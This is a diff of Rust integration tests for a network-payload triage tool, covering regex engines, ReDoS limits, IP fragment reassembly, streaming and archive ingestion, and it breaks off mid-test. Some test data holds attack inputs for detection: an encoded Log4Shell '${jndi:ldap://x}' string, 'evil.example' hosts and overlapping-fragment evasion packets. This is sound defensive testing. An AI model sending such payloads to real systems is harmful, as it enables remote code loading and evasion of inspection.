@@ -1,8 +1,9 @@
-use serde_json::Value;
-use std::io::Write;
+use serde_json::{json, Value};
+use std::io::{BufRead, BufReader, Write};
 use std::path::PathBuf;
 use std::process::{Command, Output, Stdio};
-use std::time::{SystemTime, UNIX_EPOCH};
+use std::sync::mpsc;
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
 
 struct TempDirGuard {
     path: PathBuf,
@@ -96,6 +97,35 @@ fn parse_stats_json(stderr: &[u8]) -> Value {
     })
 }
 
+fn raw_ip_pcap(packets: &[Vec<u8>]) -> Vec<u8> {
+    let mut capture = Vec::new();
+    capture.extend_from_slice(&0xa1b2_c3d4u32.to_le_bytes());
+    capture.extend_from_slice(&2u16.to_le_bytes());
+    capture.extend_from_slice(&4u16.to_le_bytes());
+    capture.extend_from_slice(&[0u8; 8]);
+    capture.extend_from_slice(&65_535u32.to_le_bytes());
+    capture.extend_from_slice(&101u32.to_le_bytes());
+    for (index, packet) in packets.iter().enumerate() {
+        capture.extend_from_slice(&(1_700_000_000u32 + index as u32).to_le_bytes());
+        capture.extend_from_slice(&0u32.to_le_bytes());
+        capture.extend_from_slice(&(packet.len() as u32).to_le_bytes());
+        capture.extend_from_slice(&(packet.len() as u32).to_le_bytes());
+        capture.extend_from_slice(packet);
+    }
+    capture
+}
+
+fn ipv4_udp_fragment(id: u16, offset: usize, more_fragments: bool, body: &[u8]) -> Vec<u8> {
+    let flags = ((offset / 8) as u16) | if more_fragments { 0x2000 } else { 0 };
+    let mut packet = vec![0x45, 0x00];
+    packet.extend_from_slice(&((20 + body.len()) as u16).to_be_bytes());
+    packet.extend_from_slice(&id.to_be_bytes());
+    packet.extend_from_slice(&flags.to_be_bytes());
+    packet.extend_from_slice(&[64, 17, 0, 0, 10, 0, 0, 1, 10, 0, 0, 2]);
+    packet.extend_from_slice(body);
+    packet
+}
+
 #[test]
 fn single_packet_emits_protocol_fields() {
     let output = run_precursor(
@@ -325,7 +355,328 @@ fn vectorscan_engine_scaffold_runs_with_pcre2_fallback() {
     let reports = parse_ndjson(&output.stdout);
     assert_eq!(reports.len(), 1);
     let stderr = String::from_utf8_lossy(&output.stderr);
-    assert!(stderr.contains("compatibility scaffold"));
+    assert_eq!(
+        stderr.contains("--features regex-vectorscan"),
+        !cfg!(feature = "regex-vectorscan"),
+        "{}",
+        stderr
+    );
+}
+
+#[test]
+fn vectorscan_engine_reports_the_same_tags_as_pcre2() {
+    let pattern_file = TempFileGuard {
+        path: unique_temp_path("precursor-vectorscan", "patterns"),
+    };
+    std::fs::write(
+        &pattern_file.path,
+        "(?<http_get>^GET /)\n\
+         (?<ssh_banner>^SSH-2\\.0-)\n\
+         (?<admin_after_user>(?<=user=)admin)\n\
+         (?<http_verb>^(?:GET|POST) )|(?<http_reply>^HTTP/1\\.[01] )\n",
+    )
+    .expect("write patterns");
+    let pattern_path = pattern_file.path.to_string_lossy().to_string();
+    let stdin_payload =
+        "GET / HTTP/1.1\nSSH-2.0-OpenSSH_9.6\nlogin user=admin\nHTTP/1.1 200 OK\nnoise\n";
+    let tags_by_line = |engine: &str| {
+        let output = run_precursor(
+            &[
+                "-p",
+                pattern_path.as_str(),
+                "-m",
+                "string",
+                "--per-record",
+                "--stats",
+                "--regex-engine",
+                engine,
+            ],
+            stdin_payload,
+        );
+        let mut tags: Vec<(u64, Value)> = parse_ndjson(&output.stdout)
+            .into_iter()
+            .map(|report| {
+                (
+                    report["source_line"].as_u64().expect("line"),
+                    report["tags"].clone(),
+                )
+            })
+            .collect();
+        tags.sort_by_key(|(line, _)| *line);
+        (tags, parse_stats_json(&output.stderr))
+    };
+    let (pcre2_tags, _) = tags_by_line("pcre2");
+    let (vectorscan_tags, stats) = tags_by_line("vectorscan");
+    assert_eq!(pcre2_tags.len(), 4);
+    assert_eq!(vectorscan_tags, pcre2_tags);
+    let accelerated = stats["Environment"]["AcceleratedPatterns"]
+        .as_u64()
+        .expect("accelerated pattern count");
+    if cfg!(feature = "regex-vectorscan") {
+        assert!((1..=3).contains(&accelerated));
+    } else {
+        assert_eq!(accelerated, 0);
+    }
+}
+
+#[test]
+fn literal_prefilter_keeps_tags_identical_and_reports_hit_ratio() {
+    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("samples/scenarios");
+    for (scenario, payloads, mode) in [
+        ("pre-protocol-packet-triage", "payloads.b64", "base64"),
+        ("public-log4shell-pcap-derived", "payloads.string", "string"),
+        ("public-log4shell-foxit-pcap", "payloads.string", "string"),
+        ("ics-modbus-single-packet", "payloads.hex", "hex"),
+        ("firmware-fragment-triage", "payloads.hex", "hex"),
+    ] {
+        let patterns = root.join(scenario).join("patterns.pcre");
+        let patterns = patterns.to_string_lossy();
+        let stdin_payload =
+            std::fs::read_to_string(root.join(scenario).join(payloads)).expect("read payloads");
+        let tags_by_record = |extra: &[&str]| {
+            let mut args = vec![
+                "-p",
+                patterns.as_ref(),
+                "-m",
+                mode,
+                "--per-record",
+                "--stats",
+            ];
+            args.extend_from_slice(extra);
+            let output = run_precursor(&args, &stdin_payload);
+            let mut tags: Vec<(u64, Value)> = parse_ndjson(&output.stdout)
+                .into_iter()
+                .map(|report| {
+                    (
+                        report["input_index"].as_u64().expect("input index"),
+                        report["tags"].clone(),
+                    )
+                })
+                .collect();
+            tags.sort_by_key(|(index, _)| *index);
+            (tags, parse_stats_json(&output.stderr))
+        };
+        let (filtered, stats) = tags_by_record(&[]);
+        let (unfiltered, unfiltered_stats) = tags_by_record(&["--no-prefilter"]);
+        assert!(!filtered.is_empty(), "{}", scenario);
+        assert_eq!(filtered, unfiltered, "{}", scenario);
+        assert_eq!(unfiltered_stats["Match"]["Prefilter"], Value::Null);
+        let prefilter = &stats["Match"]["Prefilter"];
+        if !prefilter.is_null() {
+            let ratio = prefilter["HitRatio"].as_f64().expect("hit ratio");
+            assert!((0.0..=1.0).contains(&ratio), "{}", scenario);
+            assert_eq!(
+                prefilter["Scans"].as_u64(),
+                stats["Input"]["Count"].as_u64(),
+                "{}",
+                scenario
+            );
+        }
+    }
+}
+
+#[test]
+fn match_limits_surface_match_errors_and_disable_failing_patterns() {
+    let pattern_path = unique_temp_path("precursor-redos", "pcre");
+    let _pattern_guard = TempFileGuard {
+        path: pattern_path.to_path_buf(),
+    };
+    std::fs::write(&pattern_path, "(?<redos>(a+)+$)\n").expect("write patterns");
+    let pattern_arg = pattern_path.to_string_lossy();
+    let stdin_payload: String = (30..36)
+        .map(|len| format!("{}!\n", "a".repeat(len)))
+        .collect();
+    let output = run_precursor(
+        &[
+            "-p",
+            pattern_arg.as_ref(),
+            "-m",
+            "string",
+            "--match-limit",
+            "10000",
+            "--max-pattern-errors",
+            "2",
+            "--per-record",
+            "--stats",
+        ],
+        &stdin_payload,
+    );
+    // Nothing matches, so only the payloads that tripped the limit are reported.
+    let reports = parse_ndjson(&output.stdout);
+    for report in &reports {
+        assert_eq!(report["tags"], serde_json::json!([]));
+        let errors = report["match_errors"].as_array().expect("match_errors");
+        assert_eq!(errors.len(), 1);
+        assert_eq!(errors[0]["pattern_index"], 0);
+        assert_eq!(errors[0]["error"], "match_limit");
+    }
+    let errored = reports.len();
+    // Workers already running the pattern may still fail after it is disabled.
+    assert!((2..=6).contains(&errored), "{} errored reports", errored);
+    let stats = parse_stats_json(&output.stderr);
+    let pattern_errors = &stats["Match"]["Errors"]["Patterns"];
+    assert_eq!(pattern_errors[0]["Index"], 0);
+    assert_eq!(pattern_errors[0]["Disabled"], true);
+    assert_eq!(
+        stats["Match"]["Errors"]["Total"].as_u64(),
+        Some(errored as u64)
+    );
+    assert!(String::from_utf8_lossy(&output.stderr).contains("Disabling pattern 0"));
+
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["(?<a>a)", "--match-limit", "0"])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn captures_are_collected_under_the_same_match_error_accounting() {
+    // The first match is cheap; only collecting further spans trips the match limit.
+    let args = [
+        "(?<redos>x|(a+)+$)",
+        "-m",
+        "string",
+        "--match-limit",
+        "10000",
+        "--stats",
+    ];
+    let payload = format!("x {}!\n", "a".repeat(30));
+
+    let output = run_precursor(&args, &payload);
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    assert!(reports[0].get("match_errors").is_none());
+    assert_eq!(
+        parse_stats_json(&output.stderr)["Match"]["Errors"]["Total"],
+        0
+    );
+
+    let output = run_precursor(&[&args[..], &["--captures"]].concat(), &payload);
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["tags"], serde_json::json!(["redos"]));
+    let spans = reports[0]["captures"]["redos"]
+        .as_array()
+        .expect("redos captures");
+    assert_eq!(spans.len(), 1);
+    assert_eq!(spans[0]["start"], 0);
+    assert_eq!(reports[0]["match_errors"][0]["error"], "match_limit");
+    let stats = parse_stats_json(&output.stderr);
+    assert_eq!(stats["Match"]["Errors"]["Total"], 1);
+    assert_eq!(stats["Match"]["TotalMatches"], 1);
+}
+
+#[test]
+fn pattern_packs_attach_metadata_to_tags_and_skip_disabled_patterns() {
+    let pack_path = unique_temp_path("precursor-pack", "pcre");
+    let include_path = unique_temp_path("precursor-pack-include", "pcre");
+    let _pack_guard = TempFileGuard {
+        path: pack_path.to_path_buf(),
+    };
+    let _include_guard = TempFileGuard {
+        path: include_path.to_path_buf(),
+    };
+    std::fs::write(
+        &include_path,
+        "# shared SSH banner\n@id ssh-banner\n@severity info\n(?<ssh>SSH-2\\.0)\n",
+    )
+    .expect("write include");
+    let include_name = include_path
+        .file_name()
+        .expect("include name")
+        .to_string_lossy();
+    std::fs::write(
+        &pack_path,
+        format!(
+            "# Web probes\n\n@id web-get\n@description Plain HTTP GET\n@severity low\n@tags http, recon\n@attack T1595.002\n@owner netsec\n(?<http_get>^GET /)\n\n@enabled false\n(?<retired>HTTP)\n(?<plain>Host:)\n@include {}\n",
+            include_name
+        ),
+    )
+    .expect("write pack");
+    let pack_arg = pack_path.to_string_lossy();
+    let output = run_precursor(
+        &["-p", pack_arg.as_ref(), "-m", "string", "--stats"],
+        "GET / HTTP/1.1 Host: a\nSSH-2.0-OpenSSH_9.6\n",
+    );
+    let mut reports = parse_ndjson(&output.stdout);
+    reports.sort_by_key(|report| report["source_line"].as_u64());
+    assert_eq!(reports.len(), 2);
+    assert_eq!(reports[0]["tags"], serde_json::json!(["http_get", "plain"]));
+    assert_eq!(
+        reports[0]["tag_metadata"],
+        serde_json::json!({
+            "http_get": {
+                "id": "web-get",
+                "description": "Plain HTTP GET",
+                "severity": "low",
+                "tags": ["http", "recon"],
+                "attack": ["T1595.002"],
+                "owner": "netsec",
+            }
+        })
+    );
+    assert_eq!(
+        reports[1]["tag_metadata"],
+        serde_json::json!({"ssh": {"id": "ssh-banner", "severity": "info"}})
+    );
+    // Comments, blank lines, and the disabled pattern compile to nothing.
+    assert_eq!(
+        parse_stats_json(&output.stderr)["Match"]["Patterns"].as_u64(),
+        Some(3)
+    );
+
+    std::fs::write(&pack_path, "@severity urgent\n(?<a>a)\n").expect("write pack");
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["-p", pack_arg.as_ref()])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&output.stderr).contains(":1: unknown severity 'urgent'"));
+}
+
+#[test]
+fn define_libraries_compose_into_patterns_without_leaking_helper_tags() {
+    let library = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("patterns/definitions");
+    let library = library.to_string_lossy();
+    let output = run_precursor(
+        &[
+            "--define-library",
+            library.as_ref(),
+            "(?<ssh_fail>Failed password for (?&USERNAME) from (?<src>(?&IPV4)))",
+            "-m",
+            "string",
+            "--captures",
+            "--stats",
+        ],
+        "Failed password for admin from 10.1.2.3 port 22 ssh2\nFailed password for admin from nowhere\n",
+    );
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["tags"], serde_json::json!(["ssh_fail", "src"]));
+    let captures = reports[0]["captures"].as_object().expect("captures");
+    let mut capture_tags: Vec<&String> = captures.keys().collect();
+    capture_tags.sort();
+    assert_eq!(capture_tags, vec!["src", "ssh_fail"]);
+    assert_eq!(captures["src"][0]["value"], "10.1.2.3");
+    let stats = parse_stats_json(&output.stderr);
+    assert!(stats["Match"]["LibraryDefinitions"].as_u64() > Some(50));
+    let counted: Vec<&str> = stats["Match"]["Matches"]
+        .as_array()
+        .expect("match counts")
+        .iter()
+        .filter_map(|entry| entry["Name"].as_str())
+        .collect();
+    assert!(!counted.contains(&"IPV4") && !counted.contains(&"USERNAME"));
+
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["--define-library", env!("CARGO_MANIFEST_DIR"), "(?<a>a)"])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
 }
 
 #[test]
@@ -618,3 +969,1321 @@ fn mrshv2_similarity_mode_emits_backend_hashes() {
             .unwrap_or(false)
     }));
 }
+
+#[test]
+fn pcap_mode_reassembles_overlapping_ip_fragments_by_policy() {
+    let payload = b"evil.example.com";
+    let mut datagram = Vec::new();
+    datagram.extend_from_slice(&5353u16.to_be_bytes());
+    datagram.extend_from_slice(&53u16.to_be_bytes());
+    datagram.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
+    datagram.extend_from_slice(&[0, 0]);
+    datagram.extend_from_slice(payload);
+    let capture = raw_ip_pcap(&[
+        ipv4_udp_fragment(77, 0, true, &datagram[..16]),
+        ipv4_udp_fragment(77, 8, true, b"benign.x"),
+        ipv4_udp_fragment(77, 16, false, &datagram[16..]),
+    ]);
+    let pattern = "(?<evil_token>evil)|(?<benign_token>benign)";
+
+    for (policy, expected_tag) in [("bsd", "evil_token"), ("last", "benign_token")] {
+        let output = run_precursor_bytes(
+            &[pattern, "-m", "pcap", "--ip-frag-policy", policy, "-P"],
+            capture.as_slice(),
+        );
+        let reports = parse_ndjson(&output.stdout);
+        assert_eq!(reports.len(), 1, "policy {}", policy);
+        let report = &reports[0];
+        assert_eq!(report["tags"][0].as_str(), Some(expected_tag));
+        assert_eq!(report["packet"]["fragmented"].as_bool(), Some(true));
+        assert_eq!(report["packet"]["fragment_count"].as_u64(), Some(3));
+        assert_eq!(report["packet"]["fragment_overlap_bytes"].as_u64(), Some(8));
+        let evidence = report["protocol_candidates"][0]["evidence"]
+            .as_array()
+            .expect("evidence array");
+        assert!(evidence.iter().any(|item| {
+            item.as_str()
+                .map(|text| text.starts_with("IP fragment overlap anomaly"))
+                .unwrap_or(false)
+        }));
+    }
+}
+
+#[test]
+fn stream_mode_submits_capture_packets_to_the_matcher_workers() {
+    let packets: Vec<Vec<u8>> = (0..64u16)
+        .map(|id| {
+            let payload = format!("beacon {}", id);
+            let mut datagram = Vec::new();
+            datagram.extend_from_slice(&5353u16.to_be_bytes());
+            datagram.extend_from_slice(&53u16.to_be_bytes());
+            datagram.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
+            datagram.extend_from_slice(&[0, 0]);
+            datagram.extend_from_slice(payload.as_bytes());
+            ipv4_udp_fragment(id, 0, false, &datagram)
+        })
+        .collect();
+    let capture = raw_ip_pcap(&packets);
+    let output = run_precursor_bytes(
+        &[
+            "(?<beacon>beacon)",
+            "-m",
+            "pcap",
+            "--stream",
+            "--stream-buffer",
+            "1",
+        ],
+        capture.as_slice(),
+    );
+    assert!(output.status.success());
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 64);
+    let mut frames: Vec<u64> = reports
+        .iter()
+        .map(|report| {
+            assert_eq!(report["tags"], json!(["beacon"]));
+            assert!(report["input_index"].as_u64().is_some());
+            report["packet"]["frame"].as_u64().expect("frame number")
+        })
+        .collect();
+    frames.sort_unstable();
+    assert_eq!(frames, (1..=64).collect::<Vec<u64>>());
+}
+
+#[test]
+fn stream_mode_emits_reports_before_stdin_closes() {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["(?<live_token>live)", "-m", "string", "--stream"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("failed to spawn precursor");
+    let mut stdin = child.stdin.take().expect("stdin");
+    let stdout = child.stdout.take().expect("stdout");
+    let (line_sender, line_receiver) = mpsc::channel();
+    std::thread::spawn(move || {
+        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
+            if line_sender.send(line).is_err() {
+                break;
+            }
+        }
+    });
+
+    writeln!(stdin, "first live record").expect("write first record");
+    stdin.flush().expect("flush stdin");
+    let first = line_receiver
+        .recv_timeout(Duration::from_secs(10))
+        .expect("report streamed while stdin is still open");
+    let report: Value = serde_json::from_str(&first).expect("report json");
+    assert_eq!(report["tags"][0].as_str(), Some("live_token"));
+    assert!(report["xxh3_64_sum"].as_str().is_some());
+
+    writeln!(stdin, "second live record").expect("write second record");
+    drop(stdin);
+    let status = child.wait().expect("wait on precursor");
+    assert!(status.success());
+    let remaining: Vec<String> = line_receiver.iter().collect();
+    assert_eq!(remaining.len(), 1);
+}
+
+#[test]
+fn stream_mode_reads_parallel_files_without_stalling_matchers() {
+    let temp_dir_path = unique_temp_path("precursor-stream-parallel", "d");
+    std::fs::create_dir_all(&temp_dir_path).expect("create temp dir");
+    let _temp_dir_guard = TempDirGuard {
+        path: temp_dir_path.to_path_buf(),
+    };
+    for file in 0..32 {
+        let lines: String = (0..64)
+            .map(|line| format!("marker {} {}\n", file, line))
+            .collect();
+        std::fs::write(temp_dir_path.join(format!("{}.log", file)), lines).expect("write file");
+    }
+    let mut child = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args([
+            "(?<marker>marker)",
+            "-m",
+            "string",
+            "-f",
+            temp_dir_path.to_str().expect("temp dir utf8"),
+            "--parallel-files",
+            "--stream",
+            "--stream-buffer",
+            "1",
+        ])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("failed to spawn precursor");
+    let stdout = child.stdout.take().expect("stdout");
+    let reader = std::thread::spawn(move || BufReader::new(stdout).lines().count());
+    let deadline = std::time::Instant::now() + Duration::from_secs(30);
+    let status = loop {
+        if let Some(status) = child.try_wait().expect("poll precursor") {
+            break status;
+        }
+        if std::time::Instant::now() > deadline {
+            let _ = child.kill();
+            panic!("--stream with --parallel-files did not finish");
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    assert!(status.success());
+    assert_eq!(reader.join().expect("stdout reader"), 32 * 64);
+}
+
+#[test]
+fn stream_mode_emits_similarity_cluster_records_after_reports() {
+    let input = "alpha payload token one\nalpha payload token two\nalpha payload token three\n";
+    let output = run_precursor(
+        &[
+            "(?<alpha>alpha)",
+            "-m",
+            "string",
+            "--stream",
+            "-t",
+            "-d",
+            "--similarity-mode",
+            "lzjd",
+            "-x",
+            "1000",
+        ],
+        input,
+    );
+    let records = parse_ndjson(&output.stdout);
+    let first_cluster = records
+        .iter()
+        .position(|record| record.get("similarity_cluster").is_some())
+        .expect("cluster record");
+    assert_eq!(first_cluster, 3);
+    assert!(records[..first_cluster]
+        .iter()
+        .all(|record| record.get("tlsh_similarities").is_none()));
+    assert!(
+        records[first_cluster]["similarity_cluster"]["neighbor_count"]
+            .as_u64()
+            .is_some_and(|count| count > 0)
+    );
+}
+
+#[test]
+fn stream_mode_rejects_similarity_only_output() {
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["(?<a>a)", "--stream", "-y"])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn duplicate_payloads_collapse_into_occurrences_unless_per_record() {
+    let input = concat!(
+        "{\"host\":\"a\",\"payload\":\"beacon\"}\n",
+        "{\"host\":\"b\",\"payload\":\"beacon\"}\n",
+        "{\"host\":\"c\",\"payload\":\"beacon\"}\n",
+    );
+    let args = [
+        "(?<beacon>beacon)",
+        "-m",
+        "string",
+        "-j",
+        ".payload",
+        "--max-occurrence-refs",
+        "2",
+    ];
+
+    let output = run_precursor(&args, input);
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    let report = &reports[0];
+    assert_eq!(report["host"].as_str(), Some("a"));
+    assert_eq!(report["occurrence_count"].as_u64(), Some(3));
+    assert_eq!(report["first_seen_input"].as_u64(), Some(1));
+    assert_eq!(report["last_seen_input"].as_u64(), Some(3));
+    let occurrences = report["occurrences"].as_array().expect("occurrences");
+    assert_eq!(occurrences.len(), 2);
+    assert_eq!(occurrences[1]["record"]["host"].as_str(), Some("b"));
+
+    let mut per_record_args = args.to_vec();
+    per_record_args.push("--per-record");
+    let output = run_precursor(&per_record_args, input);
+    let mut reports = parse_ndjson(&output.stdout);
+    reports.sort_by_key(|report| report["input_index"].as_u64());
+    let hosts: Vec<&str> = reports
+        .iter()
+        .filter_map(|report| report["host"].as_str())
+        .collect();
+    assert_eq!(hosts, vec!["a", "b", "c"]);
+    assert!(reports
+        .iter()
+        .all(|report| report.get("occurrence_count").is_none()));
+}
+
+#[test]
+fn reports_carry_source_provenance_for_folder_lines_and_blobs() {
+    let temp_dir_path = unique_temp_path("precursor-provenance", "d");
+    std::fs::create_dir_all(&temp_dir_path).expect("create temp dir");
+    let _temp_dir_guard = TempDirGuard {
+        path: temp_dir_path.to_path_buf(),
+    };
+    let log_path = temp_dir_path.join("events.log");
+    std::fs::write(&log_path, "benign\r\nmarker one\nmarker two\n").expect("write log");
+
+    let output = run_precursor(
+        &[
+            "(?<marker>marker)",
+            "-m",
+            "string",
+            "-f",
+            temp_dir_path.to_str().expect("temp dir utf8"),
+            "--per-record",
+        ],
+        "",
+    );
+    let mut reports = parse_ndjson(&output.stdout);
+    reports.sort_by_key(|report| report["source_line"].as_u64());
+    assert_eq!(reports.len(), 2);
+    assert_eq!(
+        reports[0]["source_path"].as_str(),
+        log_path.to_str(),
+        "source_path should be the file path"
+    );
+    assert_eq!(reports[0]["source_line"].as_u64(), Some(2));
+    assert_eq!(reports[0]["source_offset"].as_u64(), Some(8));
+    assert_eq!(reports[1]["source_line"].as_u64(), Some(3));
+    assert_eq!(reports[1]["source_offset"].as_u64(), Some(19));
+    assert!(reports[0].get("match_offsets").is_none());
+
+    let output = run_precursor(
+        &[
+            "(?<marker>marker)",
+            "-B",
+            "-f",
+            temp_dir_path.to_str().expect("temp dir utf8"),
+        ],
+        "",
+    );
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["source_offset"].as_u64(), Some(0));
+    assert!(reports[0].get("source_line").is_none());
+    let offsets: Vec<(u64, u64)> = reports[0]["match_offsets"]
+        .as_array()
+        .expect("match offsets")
+        .iter()
+        .map(|offset| {
+            assert_eq!(offset["tag"].as_str(), Some("marker"));
+            (
+                offset["start"].as_u64().expect("start"),
+                offset["end"].as_u64().expect("end"),
+            )
+        })
+        .collect();
+    assert_eq!(offsets, vec![(8, 14), (19, 25)]);
+}
+
+#[test]
+fn captures_flag_emits_values_offsets_and_pattern_index() {
+    let patterns_path = unique_temp_path("precursor-captures", "pcre");
+    let _patterns_guard = TempFileGuard {
+        path: patterns_path.to_path_buf(),
+    };
+    std::fs::write(
+        &patterns_path,
+        "(?<scheme>ldap)://(?<host>[a-z.]+)\n(?<magic>\\xff\\xfe)\n",
+    )
+    .expect("write patterns");
+    let patterns_arg = patterns_path.to_str().expect("patterns path utf8");
+
+    // base64 of "ldap://evil.example \xff\xfe"
+    let payload = "bGRhcDovL2V2aWwuZXhhbXBsZSD//g==\n";
+    let output = run_precursor(
+        &[
+            "-p",
+            patterns_arg,
+            "-m",
+            "base64",
+            "--captures",
+            "--capture-encoding",
+            "hex",
+        ],
+        payload,
+    );
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    let captures = &reports[0]["captures"];
+    assert_eq!(
+        captures["host"],
+        json!([{"value": "evil.example", "encoding": "utf8", "start": 7, "end": 19, "pattern_index": 0}])
+    );
+    assert_eq!(
+        captures["magic"],
+        json!([{"value": "fffe", "encoding": "hex", "start": 20, "end": 22, "pattern_index": 1}])
+    );
+
+    let output = run_precursor(&["-p", patterns_arg, "-m", "base64", "--captures"], payload);
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports[0]["captures"]["magic"][0]["value"], "//4=");
+    assert_eq!(reports[0]["captures"]["magic"][0]["encoding"], "base64");
+
+    let output = run_precursor(&["-p", patterns_arg, "-m", "base64"], payload);
+    let reports = parse_ndjson(&output.stdout);
+    assert!(reports[0].get("captures").is_none());
+}
+
+#[test]
+fn recursive_folder_ingest_filters_and_reports_relative_paths() {
+    let temp_dir_path = unique_temp_path("precursor-recursive", "d");
+    std::fs::create_dir_all(temp_dir_path.join("squashfs-root/etc")).expect("create tree");
+    let _temp_dir_guard = TempDirGuard {
+        path: temp_dir_path.to_path_buf(),
+    };
+    std::fs::write(temp_dir_path.join("top.bin"), "marker top").expect("write file");
+    std::fs::write(
+        temp_dir_path.join("squashfs-root/etc/shadow"),
+        "marker shadow",
+    )
+    .expect("write file");
+    std::fs::write(
+        temp_dir_path.join("squashfs-root/etc/large.bin"),
+        format!("marker {}", "x".repeat(256)),
+    )
+    .expect("write file");
+    let folder_arg = temp_dir_path.to_str().expect("temp dir utf8");
+
+    let output = run_precursor(&["(?<marker>marker)", "-B", "-f", folder_arg], "");
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1, "flat ingest should not descend");
+    assert_eq!(reports[0]["source_relative_path"].as_str(), Some("top.bin"));
+
+    let output = run_precursor(
+        &[
+            "(?<marker>marker)",
+            "-B",
+            "-f",
+            folder_arg,
+            "-r",
+            "--max-file-size",
+            "64",
+            "--parallel-files",
+        ],
+        "",
+    );
+    let mut relative_paths: Vec<String> = parse_ndjson(&output.stdout)
+        .iter()
+        .map(|report| {
+            report["source_relative_path"]
+                .as_str()
+                .expect("relative path")
+                .to_string()
+        })
+        .collect();
+    relative_paths.sort();
+    assert_eq!(relative_paths, vec!["squashfs-root/etc/shadow", "top.bin"]);
+    assert!(String::from_utf8_lossy(&output.stderr).contains("Skipped 1 files larger"));
+
+    let output = run_precursor(
+        &[
+            "(?<marker>marker)",
+            "-B",
+            "-f",
+            folder_arg,
+            "-r",
+            "--include",
+            "*.bin",
+            "--exclude",
+            "top.*",
+        ],
+        "",
+    );
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(
+        reports[0]["source_relative_path"].as_str(),
+        Some("squashfs-root/etc/large.bin")
+    );
+
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["(?<marker>marker)", "-B", "--max-depth", "2"])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn decompress_flag_unpacks_archive_members_with_provenance() {
+    let mut tar_builder = tar::Builder::new(Vec::new());
+    let log_body = b"benign\nmarker in log\n";
+    let mut header = tar::Header::new_gnu();
+    header.set_size(log_body.len() as u64);
+    header.set_mode(0o644);
+    header.set_cksum();
+    tar_builder
+        .append_data(&mut header, "logs/app.log", &log_body[..])
+        .expect("tar entry");
+    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gzip.write_all(&tar_builder.into_inner().expect("tar"))
+        .expect("gzip write");
+    let bundle = gzip.finish().expect("gzip");
+
+    let temp_dir_path = unique_temp_path("precursor-decompress", "d");
+    std::fs::create_dir_all(&temp_dir_path).expect("create temp dir");
+    let _temp_dir_guard = TempDirGuard {
+        path: temp_dir_path.to_path_buf(),
+    };
+    std::fs::write(temp_dir_path.join("evidence.tar.gz"), &bundle).expect("write bundle");
+    let folder_arg = temp_dir_path.to_str().expect("temp dir utf8");
+
+    let output = run_precursor(
+        &[
+            "(?<marker>marker)",
+            "-m",
+            "string",
+            "-f",
+            folder_arg,
+            "--decompress",
+        ],
+        "",
+    );
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(
+        reports[0]["source_relative_path"].as_str(),
+        Some("evidence.tar.gz")
+    );
+    assert_eq!(
+        reports[0]["source_member_path"].as_str(),
+        Some("logs/app.log")
+    );
+    assert_eq!(reports[0]["source_containers"], json!(["gzip", "tar"]));
+    assert_eq!(reports[0]["source_line"].as_u64(), Some(2));
+    assert_eq!(reports[0]["source_offset"].as_u64(), Some(7));
+
+    let output = run_precursor_bytes(&["(?<marker>marker)", "-B", "--decompress"], &bundle);
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["source_path"].as_str(), Some("-"));
+    assert_eq!(
+        reports[0]["source_member_path"].as_str(),
+        Some("logs/app.log")
+    );
+    assert_eq!(reports[0]["match_offsets"][0]["start"].as_u64(), Some(7));
+}
+
+#[test]
+fn auto_decode_matches_nested_layers_and_records_chain() {
+    // base64(gzip("q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"))
+    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gzip.write_all(b"q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D")
+        .expect("gzip write");
+    let payload = base64::Engine::encode(
+        &base64::engine::general_purpose::STANDARD,
+        gzip.finish().expect("gzip"),
+    );
+    let input = format!("{}\nplain text\n", payload);
+
+    let output = run_precursor(&["(?<jndi>\\$\\{jndi:)", "-m", "string"], &input);
